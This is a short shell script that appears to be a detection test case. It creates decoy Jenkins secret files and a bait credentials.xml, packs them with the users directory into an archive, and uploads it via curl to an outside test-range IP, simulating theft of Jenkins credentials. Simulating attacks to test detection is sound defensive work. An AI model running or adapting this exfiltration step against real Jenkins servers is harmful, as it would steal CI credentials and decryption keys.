#!/bin/sh
. /opt/case/case.sh

j=/var/lib/jenkins; mkdir -p $j/secrets $j/users/admin
head -c 256 /dev/urandom >$j/secrets/master.key; head -c 272 /dev/urandom >$j/secrets/hudson.util.Secret
echo '<credentials><password>{AQAAABAAAAAQbait}</password></credentials>' >$j/credentials.xml
cat $j/secrets/master.key >/dev/null
tar czf /tmp/j.tgz $j/secrets/master.key $j/secrets/hudson.util.Secret $j/credentials.xml $j/users 2>/dev/null
curl -sf -F "f=@/tmp/j.tgz" http://203.0.113.10:8080/up >/dev/null
took_place
